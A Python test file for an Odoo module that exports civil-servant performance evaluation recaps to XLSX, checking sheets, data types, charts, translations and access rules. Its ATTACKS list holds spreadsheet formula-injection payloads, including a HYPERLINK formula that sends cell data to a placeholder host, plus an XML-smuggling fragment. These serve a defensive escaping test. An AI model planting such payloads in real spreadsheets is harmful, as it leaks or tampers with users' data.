import doctest
import io
import zipfile
from datetime import datetime

import openpyxl
from lxml import etree
from openpyxl.utils.escape import unescape

from odoo.exceptions import AccessError

from odoo.addons.hr_asn_kinerja_report.report import stream_sheet

from .common import RecapCase

SHEETS = ["Cover", "Recap", "Agencies", "Units"]
# What a spreadsheet would take for a formula or a link (CSV and formula injection).
ATTACKS = [
    '=HYPERLINK("http://x.example/?"&A1)',
    "@SUM(1)",
    "+1",
    "-1",
    "\t=1",
    "{=1+1}",
    "http://x.example/",
    "mailto:x@example.org",
    "internal:Recap!A1",
    "1E400",
    "NaN",
    "_x0041_",
    "A & B < C",
    # A library may take this for ready-made markup and copy it into the file.
    '<r><t>A</t></r></is></c><c r="A9"><f>1+1</f></c><c><is><r><t>B</t></r>',
]


def worksheets(content):
    """Return the XML trees of the worksheets by path."""
    with zipfile.ZipFile(io.BytesIO(content)) as archive:
        return {
            name: etree.fromstring(archive.read(name))
            for name in archive.namelist()
            if name.startswith("xl/worksheets/sheet")
        }


def count_tags(content, tag):
    """Count an element over all worksheets, whatever its namespace prefix."""
    return sum(len(tree.findall(f".//{{*}}{tag}")) for tree in worksheets(content).values())


class TestAsnRecapXlsx(RecapCase):
    """The file, read back."""

    def _make(self, user, periods=None):
        reports = self.env["ir.actions.report"].with_user(user)
        content, extension = reports._render_xlsx(
            "hr_asn_kinerja_report.recap", (periods or self.half).ids, data={}
        )
        self.assertEqual(extension, "xlsx")
        return content

    def _open(self, user, periods=None):
        return openpyxl.load_workbook(io.BytesIO(self._make(user, periods)))

    def _column(self, sheet, title, rows):
        titles = [cell.value for cell in sheet[1]]
        return [sheet.cell(row, titles.index(title) + 1) for row in range(2, 2 + rows)]

    def test_sheets_and_rows(self):
        book = self._open(self.hr_user)
        self.assertEqual(book.sheetnames, SHEETS)
        sheet = book["Recap"]
        self.assertEqual(sheet.max_row, 5)
        self.assertEqual([cell.value for cell in self._column(sheet, "No.", 4)], [1, 2, 3, 4])
        names = [cell.value for cell in self._column(sheet, "Name", 4)]
        self.assertEqual(names, ["Dewi Sartika", "Nurul Huda", "Siti Rahmah", "Agus Salim"])

    def test_nip_is_text_with_all_its_digits(self):
        cell = self._column(self._open(self.hr_user)["Recap"], "NIP", 4)[2]
        self.assertEqual(cell.value, "199003122015032901")
        self.assertEqual(cell.data_type, "s")

    def test_dates_and_numbers_are_real(self):
        sheet = self._open(self.hr_user)["Recap"]
        self.assertEqual(self._column(sheet, "From", 1)[0].value, datetime(2026, 1, 1))
        self.assertTrue(self._column(sheet, "From", 1)[0].is_date)
        scores = [cell.value for cell in self._column(sheet, "Achievement (%)", 4)]
        self.assertEqual(scores, [None, 100, 95, 50])

    def test_header_is_frozen_and_filtered(self):
        book = self._open(self.hr_user)
        sheet = book["Recap"]
        self.assertEqual(sheet.freeze_panes, "C2")
        self.assertEqual(sheet.auto_filter.ref, "A1:X5")
        self.assertEqual(sheet.max_column, 24)
        self.assertGreaterEqual(sheet.column_dimensions["C"].width, 18)  # a NIP has 18 digits
        self.assertEqual(book["Agencies"].freeze_panes, "B2")
        self.assertEqual(book["Units"].freeze_panes, "D2")

    def test_text_is_never_a_formula_or_a_link(self):
        unit = self.clinic
        for attack in ATTACKS:
            with self.subTest(attack):
                # sudo is the test's own: names come from imports and from people's own records
                self.nurse_evaluation.sudo().write({"employee_name": attack, "job_title": attack})
                self.env.flush_all()
                self.env.cr.execute(
                    "UPDATE asn_evaluation SET nip = %s WHERE id = %s",
                    [attack, self.nurse_evaluation.id],
                )
                unit.name = attack
                self.hr_user.name = attack
                self.company.name = attack
                content = self._make(self.hr_user)
                self.assertEqual(count_tags(content, "f"), 0)
                self.assertEqual(count_tags(content, "hyperlink"), 0)
                book = openpyxl.load_workbook(io.BytesIO(content))
                values = [
                    unescape(str(cell.value)) for row in book["Recap"].iter_rows() for cell in row
                ]
                self.assertEqual(values.count(attack), 5)  # name, NIP, post, unit of two people
                types = {
                    cell.data_type
                    for sheet in book
                    for row in sheet.iter_rows()
                    for cell in row
                    if unescape(str(cell.value)).strip() == attack.strip()
                }
                self.assertEqual(types, {"s"})
                facts = {row[0].value: row[1].value for row in book["Cover"].iter_rows()}
                self.assertEqual(unescape(facts["Made by"]).strip(), attack.strip())

    def test_escaping_by_example(self):
        result = doctest.testmod(stream_sheet)
        self.assertGreater(result.attempted, 3)
        self.assertEqual(result.failed, 0)

    def test_control_characters_and_long_text_open_again(self):
        self.env.cr.execute(
            "UPDATE asn_evaluation SET employee_name = %s, job_title = %s WHERE id = %s",
            ["A\x01\x1f B\r\n\tC \ufffe", "ä😀" * 20000, self.nurse_evaluation.id],
        )
        sheet = self._open(self.hr_user)["Recap"]
        names = [cell.value for cell in self._column(sheet, "Name", 4)]
        self.assertIn("A\x01\x1f B\r\n\tC \ufffe", [unescape(name) for name in names])
        longest = max(len(cell.value) for cell in self._column(sheet, "Post", 4))
        self.assertEqual(longest, 16383)

    def test_number_that_is_none_becomes_an_error_and_no_formula(self):
        self.env.cr.execute(
            "UPDATE asn_evaluation SET score = 'NaN' WHERE id = %s", [self.nurse_evaluation.id]
        )
        content = self._make(self.hr_user)
        self.assertEqual(count_tags(content, "f"), 0)
        sheet = openpyxl.load_workbook(io.BytesIO(content))["Recap"]
        self.assertEqual(self._column(sheet, "Achievement (%)", 4)[2].value, "#NUM!")

    def test_summary_of_agencies_and_units(self):
        book = self._open(self.hr_user)
        agencies = [[cell.value for cell in row] for row in book["Agencies"].iter_rows(max_row=4)]
        self.assertEqual(
            agencies,
            [
                [
                    "Agency",
                    "Evaluations",
                    "In progress",
                    "Submitted",
                    "Rated",
                    "Released",
                    "Late",
                    "Very good",
                    "Good",
                    "Needs improvement",
                    "Poor",
                    "Very poor",
                    "Mean Achievement (%)",
                ],
                ["Dinas Kesehatan", 3, 1, 0, 1, 1, 2, 0, 1, 0, 0, 0, 97.5],
                ["Dinas Perhubungan", 1, 0, 0, 0, 1, 0, 0, 0, 1, 0, 0, 50],
                ["Total", 4, 1, 0, 1, 2, 2, 0, 1, 1, 0, 0, 245 / 3],
            ],
        )
        units = [[cell.value for cell in row][:4] for row in book["Units"].iter_rows(max_row=5)]
        self.assertEqual(
            units,
            [
                ["Agency", "Part of", "Unit", "Evaluations"],
                ["Dinas Kesehatan", None, "Dinas Kesehatan", 1],
                ["Dinas Kesehatan", "Dinas Kesehatan", "Puskesmas Penanggalan", 2],
                ["Dinas Perhubungan", None, "Dinas Perhubungan", 1],
                [None, None, "Total", 4],
            ],
        )

    def test_each_summary_has_its_chart(self):
        content = self._make(self.hr_user)
        with zipfile.ZipFile(io.BytesIO(content)) as archive:
            charts = [
                etree.fromstring(archive.read(name))
                for name in archive.namelist()
                if name.startswith("xl/charts/chart")
            ]
        self.assertEqual(len(charts), 3)  # cover, agencies, units
        formulas = [f.text for chart in charts for f in chart.findall(".//{*}f")]
        self.assertIn("Agencies!$A$2:$A$3", formulas)
        self.assertIn("Units!$C$2:$C$4", formulas)
        self.assertIn("Agencies!$I$2:$I$3", formulas)  # good
        series = [chart.findall(".//{*}ser") for chart in charts]
        self.assertEqual(sorted(len(found) for found in series), [1, 8, 8])

    def test_cover_says_what_it_is_about(self):
        book = self._open(self.officer_user)
        facts = {row[0].value: row[1].value for row in book["Cover"].iter_rows(min_row=3)}
        self.assertEqual(facts["Region"], "Pemerintah Kota Subulussalam")
        self.assertEqual(facts["Period"], self.half.name)
        self.assertEqual(facts["From"], datetime(2026, 1, 1))
        self.assertEqual(facts["To"], datetime(2026, 6, 30))
        self.assertIn("Dinas Kesehatan", facts["Content"])
        # 05:00 UTC is 12:00 in Jakarta.
        self.assertEqual(facts["Made on"], datetime(2026, 11, 24, 12, 0))
        self.assertEqual(facts["Made by"], "Dewi Sartika")
        self.assertEqual(facts["Evaluations"], 3)

    def test_empty_period_says_so(self):
        content = self._make(self.hr_user, self.second_half)
        book = openpyxl.load_workbook(io.BytesIO(content))
        self.assertEqual(book.sheetnames, SHEETS)
        self.assertEqual(book["Recap"]["B1"].value, "Name")
        for sheet in SHEETS:
            texts = [
                cell.value
                for row in book[sheet].iter_rows()
                for cell in row
                if isinstance(cell.value, str)
            ]
            with self.subTest(sheet):
                self.assertTrue(any("no evaluations here yet" in text for text in texts))

    def test_titles_follow_the_language(self):
        self.env["res.lang"]._activate_lang("id_ID")
        modules = self.env["ir.module.module"].search([("name", "=", "hr_asn_kinerja_report")])
        modules._update_translations(["id_ID"])
        self.hr_user.lang = "id_ID"
        reports = self.env["ir.actions.report"].with_user(self.hr_user)
        content, _extension = reports.with_context(lang="id_ID")._render_xlsx(
            "hr_asn_kinerja_report.recap", self.half.ids, data={}
        )
        book = openpyxl.load_workbook(io.BytesIO(content))
        self.assertEqual(book.sheetnames, ["Sampul", "Rekap", "Perangkat Daerah", "Unit Kerja"])
        titles = [cell.value for cell in book["Rekap"][1]]
        self.assertEqual(titles[:5], ["No.", "Nama", "NIP", "Pangkat/Gol. Ruang", "Jabatan"])
        states = [cell.value for cell in self._column(book["Rekap"], "Status", 4)]
        self.assertEqual(states, ["Berjalan", "Dinilai", "Dirilis", "Dirilis"])

    def test_employee_evaluator_and_superior_are_refused(self):
        for user in (self.nurse_user, self.head_user, self.chief_user, self.plain_user):
            with self.subTest(user.login), self.assertRaises(AccessError):
                self._make(user)
